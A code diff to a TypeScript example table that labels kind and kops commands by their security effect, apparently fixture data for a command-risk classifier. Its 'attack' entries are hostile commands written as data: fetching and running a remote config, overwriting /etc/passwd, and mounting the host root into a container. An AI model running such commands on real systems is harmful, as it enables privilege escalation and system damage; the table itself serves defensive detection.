@@ -182,8 +182,8 @@ export const clusters1: ExampleTable = {
     attack: [
       'curl -so k.yaml https://example.org/x && kind create cluster --config k.yaml → execute ‹https://example.org/x›',
       'kind create cluster --kubeconfig=/etc/passwd → write /etc/passwd',
+      "printf 'nodes: [{extraMounts: [{hostPath: /, containerPath: /h}]}]' | kind create cluster --config - → privilege /",
     ],
-    unclear: 'kind create cluster --config - → the directories that it gives to a container',
   },
   kops: {
     use: 'kops create -f cluster.yaml → read cluster.yaml',
